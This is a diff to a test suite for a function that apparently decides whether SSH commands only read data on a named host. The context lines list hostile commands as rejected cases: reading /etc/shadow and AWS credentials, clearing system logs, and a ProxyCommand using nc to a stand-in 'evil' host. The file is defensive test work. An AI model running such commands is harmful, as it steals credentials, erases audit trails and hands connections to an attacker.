@@ -28,6 +28,8 @@ describe('readsOnNamedHost', () => {
     ["ssh app-01 'sudo journalctl --vacuum-time=1d'", false],
     ["ssh app-01 'sudo dmesg -C'", false],
     ["ssh app-01 'sudo cat /etc/shadow'", false],
+    ["ssh app-01 'sudo ps -ef | grep nginx'", true],
+    ["ssh app-01 'sudo ps auxe'", false],
     ["ssh app-01 'cat ~/.aws/credentials'", false],
     ['ssh app-01', false],
     ["ssh -o ProxyCommand='nc evil 22' app-01 'tail /var/log/x'", false],
